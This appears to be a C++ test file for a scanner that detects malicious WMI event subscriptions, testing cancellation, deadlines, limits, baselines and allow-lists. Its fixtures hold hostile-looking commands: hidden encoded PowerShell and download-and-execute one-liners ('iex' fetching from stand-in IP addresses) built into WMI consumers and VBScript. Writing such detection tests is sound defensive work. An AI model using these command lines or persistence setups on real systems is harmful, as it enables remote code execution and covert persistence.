// Tests for wmisub/engine.hpp: the engine shared by threads, the scanner's
// cancel flag, deadline, callback and limits, host context seen by rules, and
// scans against a baseline that assess only what changed.
#include "wmisub/engine.hpp"

#include "wmisub/collector.hpp"

#include <doctest/doctest.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <memory>
#include <optional>
#include <string>
#include <thread>
#include <type_traits>
#include <utility>
#include <vector>

using namespace wmisub;

namespace {

constexpr const char* process_query =
    "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'";

// `n` bound subscriptions, each with its own encoded PowerShell payload.
snapshot subscriptions(int n) {
    mock_collector source;
    for (int i = 0; i < n; ++i) {
        const std::string name = "S" + std::to_string(i);
        std::string command = "powershell.exe -nop -w hidden -enc SQBFAFgA";
        command += std::to_string(i);
        source.filter(name, process_query).command_line_consumer(name, command).bind(name, name);
    }
    auto snap = source.collect({});
    REQUIRE(snap);
    return std::move(*snap);
}

bool has_finding(const assessment& a, std::string_view id) {
    return std::any_of(a.findings.begin(), a.findings.end(), [&](const finding& f) { return f.id() == id; });
}

template <class T>
concept changes_of_temporary = requires { std::declval<T>().changed(); };

}  // namespace

TEST_CASE("a scanner hands every assessment over, and what is kept outlives engine, scanner and graph") {
    std::vector<assessment> kept;
    scan_summary summary;
    {
        const engine e;
        scanner s(e);
        summary = s.scan(subscriptions(5), [&](assessment& a) { kept.push_back(a); });
    }
    CHECK(summary.status == scan_status::complete);
    CHECK(summary.complete());
    CHECK(summary.entries == 5);
    CHECK(summary.assessed == 5);
    REQUIRE(kept.size() == 5);
    for (const assessment& a : kept) {
        REQUIRE(a.facts.filter != nullptr);
        CHECK(a.facts.filter->query == process_query);  // the graph died; the assessment keeps it
        REQUIRE(a.facts.host != nullptr);               // so does the engine's host context
        CHECK(a.facts.host->host_name.empty());
        CHECK(a.risk.severity >= severity::high);
    }
}

TEST_CASE("a callback returning false stops the scan, which says so") {
    const engine e;
    scanner s(e);
    std::size_t seen = 0;
    const scan_summary summary = s.scan(subscriptions(6), [&](const assessment&) { return ++seen < 2; });
    CHECK(seen == 2);
    CHECK(summary.status == scan_status::stopped);
    CHECK(summary.assessed == 2);
    CHECK(summary.partial);
}

TEST_CASE("the cancel flag stops a scan between entries and before payload analysis") {
    const engine e;
    scanner s(e);
    std::atomic<bool> cancel{false};
    s.set_cancel_flag(&cancel);
    std::size_t seen = 0;
    const subscription_graph graph = s.build_graph(subscriptions(6));
    CHECK_FALSE(graph.interrupted());
    const scan_summary summary = s.scan(graph, [&](const assessment&) {
        if (++seen == 3) cancel = true;  // another thread would do this
    });
    CHECK(summary.status == scan_status::cancelled);
    CHECK(summary.assessed == 3);
    CHECK(summary.partial);

    // Raised before the graph is built: the joins are made, no payload is analysed (a fresh
    // engine: analyses already in an engine's cache cost nothing and are still handed out).
    const engine fresh;
    scanner t(fresh);
    t.set_cancel_flag(&cancel);
    const subscription_graph stopped = t.build_graph(subscriptions(3));
    CHECK(stopped.interrupted());
    REQUIRE(stopped.entries().size() == 3);
    CHECK(stopped.payload(stopped.entries()[0])->truncated);
    CHECK(stopped.payload(stopped.entries()[0])->indicators.empty());
}

TEST_CASE("a deadline stops the analysis of one huge payload inside it, and the engine does not keep the partial one") {
    // 2 MiB of VBScript that launches PowerShell, downloads and writes files: minutes of work
    // without a stop would be hidden behind one consumer.
    std::string script;
    const char* lines[] = {"Set sh = CreateObject(\"WScript.Shell\")\r\n",
                           "sh.Run \"powershell -nop -w hidden -c iex (iwr http://198.51.100.7/a)\", 0\r\n",
                           "x = Chr(80) & Chr(111) & \"wer\" & \"Shell\" ' http://198.51.100.9/b\r\n"};
    for (std::size_t i = 0; script.size() < (std::size_t{2} << 20); ++i) script += lines[i % 3];
    mock_collector source;
    source.filter("F", process_query).script_consumer("Huge", script).bind("F", "Huge", "ActiveScriptEventConsumer");
    auto snap = source.collect({});
    REQUIRE(snap);
    const engine e;
    bool stopped_inside = false;
    for (auto budget = std::chrono::microseconds(100); budget < std::chrono::seconds(120) && !stopped_inside; budget *= 2) {
        scanner s(e);
        s.set_deadline(std::chrono::steady_clock::now() + budget);
        const subscription_graph graph = s.build_graph(*snap);
        REQUIRE(graph.entries().size() == 1);
        const auto payload = graph.payload(graph.entries()[0]);
        REQUIRE(payload);
        if (!graph.interrupted()) break;  // the whole analysis fit in the budget
        if (payload->interrupted && !payload->indicators.empty()) {
            stopped_inside = true;  // stopped during the analysis, with what it had found by then
            CHECK(payload->truncated);
        }
    }
    CHECK(stopped_inside);
    // Without a deadline the same engine analyses the payload whole: the partial analysis was not cached.
    scanner unbounded(e);
    const subscription_graph whole = unbounded.build_graph(*snap);
    CHECK_FALSE(whole.interrupted());
    CHECK_FALSE(whole.payload(whole.entries()[0])->interrupted);
}

TEST_CASE("a deadline in the past stops graph and scan, returning what was done") {
    const engine e;
    scanner s(e);
    std::vector<scan_warning> warnings;
    s.set_warning_sink([&](const scan_warning& w) { warnings.push_back(w); });
    s.set_deadline(std::chrono::steady_clock::now() - std::chrono::seconds(1));
    std::size_t seen = 0;
    const scan_summary summary = s.scan(subscriptions(4), [&](const assessment&) { ++seen; });
    CHECK(summary.status == scan_status::deadline);
    CHECK(seen == 0);
    CHECK(summary.partial);
    REQUIRE_FALSE(warnings.empty());
    CHECK(warnings.front().where == "graph");
    CHECK(summary.warnings == warnings.size());

    s.set_deadline(std::nullopt);
    CHECK(s.scan(subscriptions(4), [](const assessment&) {}).complete());
}

TEST_CASE("limits bound the entries, findings and evidence text of a scan") {
    limits l;
    l.max_entries = 2;
    l.max_findings = 1;
    l.max_evidence_bytes = 24;
    const engine e(rule_catalog::builtin(), {}, l);
    scanner s(e);
    mock_collector source;
    std::string long_url = "powershell -c iex (New-Object Net.WebClient).DownloadString('http://198.51.100.7/";
    for (int i = 0; i < 300; ++i) long_url += "\xC3\xA9";  // two-byte characters: a cut must not split one
    long_url += "')";
    for (int i = 0; i < 3; ++i) {
        const std::string name = "L" + std::to_string(i);
        source.filter(name, process_query).command_line_consumer(name, long_url).bind(name, name);
    }
    auto snap = source.collect({});
    REQUIRE(snap);
    std::vector<assessment> kept;
    const scan_summary summary = s.scan(std::move(*snap), [&](assessment& a) { kept.push_back(std::move(a)); });
    CHECK(summary.status == scan_status::entry_limit);
    CHECK(summary.assessed == 2);
    CHECK(summary.partial);
    REQUIRE(kept.size() == 2);
    for (const assessment& a : kept) {
        CHECK(a.findings.size() == 1);
        CHECK(a.risk.severity >= severity::high);  // scored on every finding before the cut
        for (const evidence& ev : a.findings.front().evidence) {
            CHECK(ev.excerpt.size() <= 24 + 3);
            CHECK(ev.detail.size() <= 24 + 3);
            for (const std::string* text : {&ev.excerpt, &ev.detail}) {
                // Valid UTF-8 after the cut: no lead byte without its continuation.
                for (std::size_t i = 0; i < text->size(); ++i) {
                    const auto c = static_cast<unsigned char>((*text)[i]);
                    if (c == 0xC3) CHECK(i + 1 < text->size());
                }
            }
        }
    }
    // The full text is one call away: the facts' consumer still holds it.
    REQUIRE(kept.front().facts.consumer != nullptr);
    CHECK(std::get<command_line_consumer>(*kept.front().facts.consumer).command_line_template == long_url);
}

TEST_CASE("an engine's host name makes paths naming that machine local in the graphs it builds") {
    mock_collector source;
    source.filter("Upd", process_query)
        .command_line_consumer("Upd", "cmd.exe /c calc")
        .bind_paths(R"(\\WS01\ROOT\subscription:__EventFilter.Name="Upd")",
                    R"(\\WS01\ROOT\subscription:CommandLineEventConsumer.Name="Upd")");
    auto snap = source.collect({});
    REQUIRE(snap);
    REQUIRE(snap->host.empty());  // a source that does not know the machine's name
    const engine anonymous;
    CHECK(anonymous.graph(*snap).in_state(subscription_state::bound).empty());
    host_context host;
    host.host_name = "ws01.corp.example";
    const engine named(rule_catalog::builtin(), {}, {}, host);
    CHECK(named.graph(*snap).in_state(subscription_state::bound).size() == 1);
    scanner s(named);
    CHECK(s.build_graph(*snap).in_state(subscription_state::bound).size() == 1);
}

TEST_CASE("rules see the host context, as yara rules see external variables") {
    host_context host;
    host.host_name = "WS01";
    host.trusted_domains = {"updates.example.com"};
    host.approved_folders = {"%ProgramFiles%\\Vendor\\"};
    host.expected_creator_sids = {"S-1-5-18"};
    host.variables = {{"site", "lab"}};
    CHECK(host.trusts_domain("updates.example.com"));
    CHECK(host.trusts_domain("eu.UPDATES.example.com."));
    CHECK_FALSE(host.trusts_domain("evilupdates.example.com"));
    CHECK_FALSE(host.trusts_domain("example.com"));
    CHECK(host.in_approved_folder("C:\\Program Files\\Vendor\\agent.exe"));
    CHECK(host.in_approved_folder("c:/program files/vendor/sub/../tool.exe"));
    CHECK_FALSE(host.in_approved_folder("C:\\Program Files\\Vendor\\..\\Evil\\x.exe"));
    CHECK_FALSE(host.in_approved_folder("C:\\Program Files\\VendorX\\x.exe"));
    CHECK(host.expects_creator("s-1-5-18"));
    CHECK_FALSE(host.expects_creator("S-1-5-21-1-2-3-500"));
    CHECK(host.variable("SITE") == std::optional<std::string_view>("lab"));
    CHECK_FALSE(host.variable("other"));

    rule_catalog catalog;
    rule r;
    r.id = "HOST-001";
    r.title = "Payload outside the approved folders";
    r.severity = severity::high;
    r.check = [](const subscription_facts& f) -> std::optional<rule_hit> {
        if (f.host == nullptr || f.payload == nullptr || !f.payload->executable) return std::nullopt;
        if (f.host->in_approved_folder(f.payload->executable->raw)) return std::nullopt;
        return rule_hit{{{"Consumer.CommandLineTemplate", f.payload->executable->raw, "not in an approved folder"}}, {}};
    };
    REQUIRE(catalog.add(std::move(r)));
    const engine e(std::move(catalog), {}, {}, host);
    scanner s(e);
    mock_collector source;
    source.filter("A", process_query).command_line_consumer("A", "\"C:\\Program Files\\Vendor\\agent.exe\" --report").bind("A", "A");
    source.filter("B", process_query).command_line_consumer("B", "C:\\Users\\Public\\agent.exe --report").bind("B", "B");
    auto snap = source.collect({});
    REQUIRE(snap);
    std::vector<bool> fired;
    (void)s.scan(std::move(*snap), [&](const assessment& a) { fired.push_back(has_finding(a, "HOST-001")); });
    CHECK(fired == std::vector<bool>{false, true});
}

TEST_CASE("scan_changes assesses only what changed since the baseline, with the changes as findings") {
    mock_collector before;
    before.filter("Keep", process_query).command_line_consumer("Keep", "C:\\Program Files\\Vendor\\agent.exe").bind("Keep", "Keep");
    before.filter("Edit", process_query).command_line_consumer("Edit", "C:\\Program Files\\Vendor\\report.exe").bind("Edit", "Edit");
    auto first = before.collect({});
    REQUIRE(first);
    const baseline approved = make_baseline(*first);

    mock_collector after;
    after.filter("Keep", process_query).command_line_consumer("Keep", "C:\\Program Files\\Vendor\\agent.exe").bind("Keep", "Keep");
    after.filter("Edit", process_query).command_line_consumer("Edit", "cmd.exe /c C:\\Users\\Public\\r.bat").bind("Edit", "Edit");
    after.filter("New", process_query).command_line_consumer("New", "powershell -enc SQBFAFgA").bind("New", "New");
    auto second = after.collect({});
    REQUIRE(second);

    const engine e;
    scanner s(e);
    std::vector<assessment> kept;
    {
        const subscription_graph graph = e.graph(std::move(*second));
        const graph_changes changes = diff(approved, graph);
        CHECK(changes.diff().has_changes());
        REQUIRE(changes.changed().size() == 2);
        CHECK(changes.of(0).empty());  // Keep
        const scan_summary summary = s.scan_changes(graph, changes, [&](assessment& a) { kept.push_back(std::move(a)); });
        CHECK(summary.complete());
        CHECK(summary.entries == 2);
    }
    REQUIRE(kept.size() == 2);
    const assessment& edited = kept[0];
    REQUIRE(edited.facts.changes != nullptr);  // kept alive with the assessment
    REQUIRE(edited.facts.changes->modified.size() == 1);
    CHECK(has_finding(edited, "WMISUB-BSL-001"));
    const auto bsl = std::find_if(edited.findings.begin(), edited.findings.end(),
                                  [](const finding& f) { return f.id() == "WMISUB-BSL-001"; });
    REQUIRE(bsl != edited.findings.end());
    REQUIRE_FALSE(bsl->evidence.empty());
    CHECK(bsl->evidence.front().field == "consumer.CommandLineTemplate");
    CHECK(bsl->evidence.front().detail.find("report.exe") != std::string::npos);
    const assessment& added = kept[1];
    REQUIRE(added.facts.changes != nullptr);
    CHECK(added.facts.changes->added.size() == 3);  // filter, consumer and binding are new
    CHECK_FALSE(has_finding(added, "WMISUB-BSL-001"));
    CHECK(added.risk.severity >= severity::high);

    // Without a baseline the rule never fires.
    std::vector<bool> plain;
    (void)s.scan(subscriptions(1), [&](const assessment& a) { plain.push_back(has_finding(a, "WMISUB-BSL-001")); });
    CHECK(plain == std::vector<bool>{false});
    static_assert(changes_of_temporary<const graph_changes&>);
    static_assert(!changes_of_temporary<graph_changes>, "the changes of a temporary graph_changes would dangle");
}

TEST_CASE("an engine's allow-list uses fingerprints computed once per object") {
    const snapshot snap = subscriptions(2);
    policy p;
    p.allowed_fingerprints = {fingerprint(snap.filters[0]), fingerprint(snap.consumers[0])};
    const engine e(rule_catalog::builtin(), p);
    const subscription_graph graph = e.graph(snap);
    REQUIRE(graph.filter_fingerprint(graph.entries()[0]) != nullptr);
    CHECK(*graph.filter_fingerprint(graph.entries()[0]) == p.allowed_fingerprints[0]);
    scanner s(e);
    const std::vector<assessment> results = s.assess_all(graph);
    REQUIRE(results.size() == 2);
    CHECK(results[0].allow_listed);
    CHECK(results[0].risk.severity == severity::info);
    CHECK_FALSE(results[1].allow_listed);
    // A graph built without them computes them once, when first asked, and copies share them.
    const subscription_graph plain(snap);
    const subscription_graph copy = plain;
    const std::string* first = plain.filter_fingerprint(plain.entries()[0]);
    REQUIRE(first != nullptr);
    CHECK(*first == fingerprint(snap.filters[0]));
    CHECK(copy.filter_fingerprint(copy.entries()[0]) == first);  // the same string: computed once
    CHECK(plain.object_keys().bindings.size() == snap.bindings.size());
    CHECK(plain.object_keys().consumers[1].identity_key == identity_key_of(wmi_object{snap.consumers[1]}));
    CHECK(assess(subscription_graph(snap), rule_catalog::builtin(), p)[0].allow_listed);
}

TEST_CASE("a diff of an unchanged graph is decided from the object table and equals the full diff") {
    const engine e;
    const snapshot snap = subscriptions(3);
    const baseline approved = make_baseline(snap);
    const subscription_graph same = e.graph(snap);
    const graph_changes fast = diff(approved, same);
    const baseline_diff full = diff(approved, snap);
    CHECK_FALSE(fast.diff().has_changes());
    CHECK(fast.diff().unchanged == full.unchanged);
    CHECK(fast.diff().baseline_host == full.baseline_host);
    CHECK(fast.diff().snapshot_collected_at == full.snapshot_collected_at);
    CHECK(fast.diff().errors == full.errors);
    CHECK(fast.changed().empty());

    snapshot edited = snap;  // one payload changed: the full diff runs and finds it
    std::get<command_line_consumer>(edited.consumers[1]).command_line_template = "cmd.exe /c calc";
    const subscription_graph other = e.graph(edited);
    const graph_changes found = diff(approved, other);
    REQUIRE(found.diff().modified.size() == 1);
    CHECK(found.changed().size() == 1);

    snapshot fewer = snap;  // one object gone
    fewer.bindings.pop_back();
    const subscription_graph fewer_graph = e.graph(fewer);
    const graph_changes gone = diff(approved, fewer_graph);
    CHECK(gone.diff().removed.size() == 1);

    diff_options narrow;  // options that narrow the comparison take the full path, with the same answer
    narrow.namespaces = {"root\\subscription"};
    const graph_changes narrowed = diff(approved, same, narrow);
    CHECK_FALSE(narrowed.diff().has_changes());
}

TEST_CASE("the unchanged-graph diff covers other objects, as the full diff does by default") {
    const engine e;
    snapshot snap = subscriptions(2);
    instance registration;  // a provider registration kept beside the subscriptions
    registration.namespace_path = "root\\subscription";
    registration.class_name = "__EventConsumerProviderRegistration";
    registration.key_names = {"provider"};
    registration.set("provider", value::string("__Win32Provider.Name=\"Evil\""));
    snap.other_objects.push_back(registration);
    const baseline approved = make_baseline(snap);

    const graph_changes fast = diff(approved, e.graph(snap));
    const baseline_diff full = diff(approved, snap);
    CHECK_FALSE(fast.diff().has_changes());
    CHECK(fast.diff().unchanged == full.unchanged);

    snapshot edited = snap;  // only the other object changed: found, as the full diff finds it
    edited.other_objects[0].set("provider", value::string("__Win32Provider.Name=\"Other\""));
    const graph_changes found = diff(approved, e.graph(edited));
    CHECK(found.diff().has_changes());
    const baseline_diff full_edit = diff(approved, edited);
    CHECK(found.diff().modified.size() == full_edit.modified.size());
    CHECK(found.diff().added.size() == full_edit.added.size());
    CHECK(found.diff().removed.size() == full_edit.removed.size());

    diff_options subscriptions_only;  // without other objects, that change is out of scope
    subscriptions_only.include_other_objects = false;
    const graph_changes narrowed = diff(approved, e.graph(edited), subscriptions_only);
    CHECK_FALSE(narrowed.diff().has_changes());
    CHECK(narrowed.diff().unchanged == diff(approved, edited, subscriptions_only).unchanged);
}

TEST_CASE("threads share one engine, each with its own scanner") {
    const engine e;
    const subscription_graph graph = e.graph(subscriptions(30));
    std::vector<std::vector<assessment>> per_thread(3);
    std::vector<std::thread> threads;
    for (std::size_t t = 0; t < per_thread.size(); ++t) {
        threads.emplace_back([&, t] {
            scanner s(e);
            per_thread[t] = s.assess_all(graph);
        });
    }
    for (std::thread& t : threads) t.join();
    for (const std::vector<assessment>& results : per_thread) {
        REQUIRE(results.size() == 30);
        for (std::size_t i = 0; i < results.size(); ++i) CHECK(results[i].risk.score == per_thread.front()[i].risk.score);
    }
}

TEST_CASE("graphs built by one engine share each payload's analysis") {
    const engine e;
    const subscription_graph first = e.graph(subscriptions(2));
    const subscription_graph second = e.graph(subscriptions(2));  // another host with the same content
    REQUIRE(first.entries().size() == 2);
    REQUIRE(second.entries().size() == 2);
    CHECK(first.payload(first.entries()[0]) == second.payload(second.entries()[0]));
    CHECK(first.payload(first.entries()[1]) != first.payload(first.entries()[0]));
    // A graph of its own analyses its payloads itself.
    const subscription_graph own(subscriptions(2));
    CHECK(own.payload(own.entries()[0]) != first.payload(first.entries()[0]));
    CHECK(own.payload(own.entries()[0])->indicators == first.payload(first.entries()[0])->indicators);
}
